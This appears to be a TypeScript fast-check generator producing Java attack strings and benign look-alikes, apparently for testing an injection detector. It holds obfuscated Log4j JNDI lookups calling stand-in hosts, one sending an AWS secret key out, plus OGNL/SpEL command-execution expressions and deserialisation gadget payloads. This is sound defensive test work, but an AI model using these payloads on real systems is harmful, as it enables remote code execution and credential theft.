// Java attack variants: JNDI lookups hidden with nested Log4j lookups, OGNL and SpEL
// expressions that reach Runtime/ProcessBuilder, and serialised-object markers.
import fc from "fast-check";
import { pick } from "./positions.js";

/** One letter written as a Log4j lookup that yields it. */
function hideLetter(ch: string, how: number): string {
  switch (how) {
    case 1: return `\${lower:${ch}}`;
    case 2: return `\${upper:${ch}}`;
    case 3: return `\${::-${ch}}`;
    case 4: return `\${env:NOPE:-${ch}}`;
    case 5: return `\${date:'${ch}'}`;
    case 6: return `\${sys:x:-${ch}}`;
    default: return ch;
  }
}
const jndi = fc.tuple(fc.array(fc.nat(6), { minLength: 4, maxLength: 4 }), pick(["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http"]), fc.nat(6), pick(["attacker.example:1389/a", "10.1.2.3/Exploit", "${hostName}.attacker.example/x", "attacker.example/${env:AWS_SECRET_ACCESS_KEY}"]), fc.boolean()).map(
  ([hs, proto, ph, dest, upper]) => {
    const word = "jndi".split("").map((c, k) => hideLetter(upper && hs[k] === 0 ? c.toUpperCase() : c, hs[k])).join("");
    const scheme = proto.split("").map((c, k) => (k === 0 ? hideLetter(c, ph) : c)).join("");
    return `\${${word}:${scheme}://${dest}}`;
  },
);
const ognl = pick([
  "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
  "${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}",
  "%{@java.lang.Runtime@getRuntime().exec('touch /tmp/x')}",
  "(#a=@java.lang.Runtime@getRuntime().exec('id').getInputStream())",
  "${(#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id'))}",
  "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}",
]);
const spel = fc.tuple(pick(["${", "#{", "*{", "T(", ""]), pick([
  "T(java.lang.Runtime).getRuntime().exec('id')", "T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})", "new java.lang.ProcessBuilder({'id'}).start()",
  "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())",
  "''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')",
  "T(javax.script.ScriptEngineManager).newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')",
])).map(([o, e]) => (o === "T(" ? e : o === "" ? e : `${o}${e}}`));
const serialised = pick([
  "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAAC",
  "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b103000249000473697a65",
  "rO0ABXQAVklmIHlvdSBhcmUgcmVhZGluZyB0aGlzLCBpdCBpcyBhIHRlc3Q=",
  "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/a\",\"autoCommit\":true}",
  "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
  "{\"@class\":\"org.apache.commons.collections.functors.InvokerTransformer\",\"iMethodName\":\"exec\"}",
]);

export const javaAttack: fc.Arbitrary<string> = fc.oneof({ weight: 5, arbitrary: jndi }, { weight: 2, arbitrary: ognl }, { weight: 2, arbitrary: spel }, { weight: 1, arbitrary: serialised });

export const javaBenign: fc.Arbitrary<string> = pick([
  "${HOME}/projects", "Price: ${price}", "Hello ${user.name}, welcome", "#{order.total}", "java.lang.String is immutable", "The Runtime was 3 minutes",
  "Use ProcessBuilder in Java to start a process", "ldap is a directory protocol", "rO0 is not a word", "aced the exam 0005 times", "${lower} case letters",
  "{\"@type\":\"Person\",\"name\":\"Jane\"}", "T(x) = 2x + 1", "env: production", "%{name} is a format placeholder", "I enjoy coffee, java in Indonesian",
]);
export const javaPositions = ["query", "form", "json", "header", "cookie"] as ("query" | "form" | "json" | "header" | "cookie")[];
